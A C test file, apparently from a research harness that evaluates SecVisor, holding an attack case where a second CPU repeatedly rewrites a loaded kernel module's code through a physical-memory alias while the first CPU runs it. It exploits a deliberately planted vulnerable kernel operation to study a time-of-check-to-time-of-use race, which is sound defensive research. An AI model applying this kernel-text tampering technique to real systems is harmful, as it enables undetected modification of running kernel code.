// Row 11. The second CPU changes an approved module's text to and fro, without pause, while the first executes it.
// Source: time of check to time of use; Linux's text_poke needs INT3 for the same reason.
// Ends: natively succeeded; beneath SecVisor restored, tampered.
#include "common/attack.h"
#include <signal.h>
#include <sys/wait.h>
#include <time.h>

// The aligned word of target_answer in which its result is, 42; the attacker's word, in which it is 55.
static u64 word, right, wrong;

static void find(void)
{
	static const u8 result[] = { 0xb8, 42, 0, 0, 0 };
	u64 at = find_bytes(symbol("target_answer"), 48, result, sizeof(result)) + 1;

	word = at & ~7ull;
	right = kread64(word);
	wrong = right ^ (u64)(42 ^ 55) << 8 * (at & 7);
	keep_bytes(word, 8);
}

static void change(void *alias)
{
	struct vulnerable_operation op = { .what = VULNERABLE_TOGGLE, .in = { (u64)alias, wrong, 0, right, 0, 200 } };

	for (;;)
		if (try_operate(&op))
			return;
}

ATTACK("race-text")
{
	u64 result = 0, calls = 0, alias, function;
	time_t start;
	int child;

	insert_module("/modules/target.ko");
	find();
	function = symbol("target_answer");
	alias = map_physical(physical(word), KERNEL_DATA);
	child = on_second_cpu(change, (void *)alias);
	for (start = time(NULL); time(NULL) - start < 8; calls++) {
		result = call(function);
		if (result == 55)
			break;
		if (result != 42)
			failed("it returned %llu", (unsigned long long)result);
	}
	kill(child, SIGKILL);
	waitpid(child, NULL, 0);
	if (result == 55)
		succeeded("after %llu calls the function returned what the second CPU had written", (unsigned long long)calls);
	// And when the second CPU leaves it changed.
	operate(VULNERABLE_STORE, alias, wrong, 8);
	result = call(function);
	if (result == 42 && kread64(word) == right)
		restored("%llu calls and a last one returned 42", (unsigned long long)calls);
	failed("it returned %llu", (unsigned long long)result);
}
